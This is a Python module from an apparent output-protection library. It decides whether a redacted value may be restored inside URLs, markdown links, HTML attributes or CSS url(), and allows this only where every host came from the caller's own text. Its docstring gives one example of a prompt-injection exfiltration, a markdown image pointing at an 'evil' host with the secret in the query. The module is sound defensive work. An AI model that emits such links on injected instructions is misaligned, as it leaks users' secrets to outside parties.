"""Where a restored value would land, and whether it may (DESIGN §2, restore by sink).

Restoring must not become the way out: an injected text can make a model write
``![](https://evil/?q=SURROGATE)``, and whoever renders that answer calls the address. So
inside addresses, link destinations and attributes a value is restored only if every host
there stood in the caller's own words, and never in the part that names the host.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterable

from guard.protection.markup import Markup

__all__ = ["Place", "hosts_in"]

HOST = re.compile(r"(?i)\bhttps?://([a-z0-9][a-z0-9.\-]{0,252})")
RUN = re.compile(r"[^\s<>]*\Z")
ADDRESS = re.compile(
    r"(?i)[\\/]{2,}|(?<![a-z0-9])www\.|(?<![a-z0-9.@\-])(?:[a-z0-9\-]{1,63}\.){1,8}[a-z]{2,24}(?=[/?#:\\])"
)
AUTHORITY_END = re.compile(r"[/\\?#]")
NAME = re.compile(r"(?i)[a-z0-9.\-]+(?::[0-9]{1,5})?")
POINTED = re.compile(r"\][(:]\s{0,8}\Z")
RELATIVE = re.compile(r"(?:/(?![/\\])|#|\./)[^\\&]*")
MAIL = "mailto:"
CONTINUES = re.compile(r"\.[A-Za-z0-9]|:[\\/]|@")
QUOTES = "\"'`"

LINE_LIMIT = 8192
"""Of a line without end this much is looked at; if an address may stand further left,
nothing is restored until the line ends."""


def hosts_in(texts: Iterable[str]) -> frozenset[str]:
    """Return the hosts of all addresses in ``texts``, in lower case."""
    return frozenset(
        found.group(1).lower().rstrip(".-")
        for text in texts
        if "://" in text
        for found in HOST.finditer(text)
    )


class Place:
    """Follows a text and says whether a value may be restored where it has come to.

    ``quoted``: a quotation mark ends an address (tool arguments); in prose, renderers
    read on behind it.
    """

    def __init__(self, *, quoted: bool) -> None:
        self._quoted = quoted
        self._markup = Markup()
        self._line = ""
        self._lost = False

    @property
    def last(self) -> str:
        """The character before, which decides whether a token begins here."""
        return self._line[-1:]

    def advance(self, text: str) -> None:
        """Go on over ``text``."""
        self._markup.feed(text)
        ending = text.rfind("\n")
        if ending >= 0:
            self._line, self._lost = text[ending:], False
        else:
            self._line += text
        if len(self._line) > LINE_LIMIT:
            dropped = self._line[:-LINE_LIMIT]
            self._lost = self._lost or any(mark in dropped for mark in "/\\(&")
            self._line = self._line[-LINE_LIMIT:]

    def permits(self, right: str, hosts: frozenset[str]) -> bool:
        """Whether a value may be restored here; ``right``: two characters that follow it."""
        if self._lost or CONTINUES.match(right):
            return False
        value = self._markup.value
        if value is not None:
            return not self._markup.overflow and self._allowed(value, hosts, needed=True, quoted=False)
        pointed = self._line.rfind("<")
        if pointed >= 0 and ">" not in self._line[pointed:] and POINTED.search(self._line, 0, pointed):
            return self._allowed(self._line[pointed + 1 :], hosts, needed=True, quoted=False)
        css = self._line.lower().rfind("url(")
        if css >= 0 and ")" not in self._line[css:]:
            return self._allowed(self._line[css:], hosts, needed=True, quoted=False)
        return self._in_run(hosts)

    def _in_run(self, hosts: frozenset[str]) -> bool:
        found = RUN.search(self._line)
        run = found.group() if found else ""
        _, link, target = run.partition("](")
        if not link:
            return self._allowed(run, hosts, needed=False, quoted=self._quoted)
        if target == MAIL or RELATIVE.fullmatch(target):
            return True
        return self._allowed(target, hosts, needed=True, quoted=False)

    @staticmethod
    def _allowed(text: str, hosts: frozenset[str], *, needed: bool, quoted: bool) -> bool:
        """Whether every address in ``text`` has an allowed host and has left it behind.

        ``needed``: without any address that can be read, the answer is no.
        """
        text = html.unescape(text) if "&" in text else text
        found = False
        at = 0
        while (address := ADDRESS.search(text, at)) is not None:
            begin = address.end() if address.group()[0] in "\\/" else address.start()
            closing = _closing(text, address.start(), address.end()) if quoted else -1
            if closing >= 0:
                at = closing + 1
                continue
            ending = AUTHORITY_END.search(text, begin)
            if ending is None:
                return False
            authority = text[begin : ending.start()].lower()
            if NAME.fullmatch(authority) is None or authority.partition(":")[0] not in hosts:
                return False
            found = True
            at = ending.start() + 1
        return found or not needed


def _closing(text: str, start: int, end: int) -> int:
    """Return where the quotation round an address (with its scheme) ends, or -1."""
    while start > 0 and (text[start - 1].isalnum() or text[start - 1] in "+.-:"):
        start -= 1
    opener = text[start - 1 : start]
    return text.find(opener, end) if opener and opener in QUOTES else -1
